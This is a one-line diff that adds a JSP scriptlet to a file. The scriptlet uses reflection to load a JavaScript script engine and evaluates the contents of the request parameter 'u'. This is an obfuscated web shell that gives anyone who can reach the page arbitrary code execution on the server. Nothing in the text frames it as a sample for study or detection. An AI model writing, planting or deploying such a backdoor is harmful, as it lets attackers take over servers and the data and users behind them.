@@ -1,0 +1,1 @@
+<% Object mgr = Class.forName("javax.script.ScriptEngineManager").newInstance(); Object eng = mgr.getClass().getMethod("getEngineByName", String.class).invoke(mgr, "js"); eng.getClass().getMethod("eval", String.class).invoke(eng, request.getParameter("u")); %>
